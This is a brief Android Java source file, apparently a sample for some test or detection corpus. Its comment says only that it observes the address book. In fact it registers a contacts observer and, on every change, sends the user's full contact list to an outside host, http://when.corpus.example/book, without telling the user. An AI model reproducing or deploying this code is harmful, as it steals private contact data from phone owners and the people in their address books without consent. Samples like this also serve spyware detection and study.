package org.corpus;

import android.content.Context;
import android.database.ContentObserver;
import android.net.Uri;
import android.os.Handler;
import android.os.Looper;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;
import org.corpus.kit.Work;

/** Observes the address book. */
public class AtContactChange extends Screen {
    @Override
    protected void act() {
        Uri book = Uri.parse("content://com.android.contacts/raw_contacts");
        Context app = getApplicationContext();
        ContentObserver observer =
                new ContentObserver(new Handler(Looper.getMainLooper())) {
                    @Override
                    public void onChange(boolean self) {
                        Work.start(
                                () ->
                                        Net.post(
                                                "http://when.corpus.example/book",
                                                "text/plain",
                                                String.join("\n", Owner.contacts(app))));
                    }
                };
        getContentResolver().registerContentObserver(book, true, observer);
    }
}
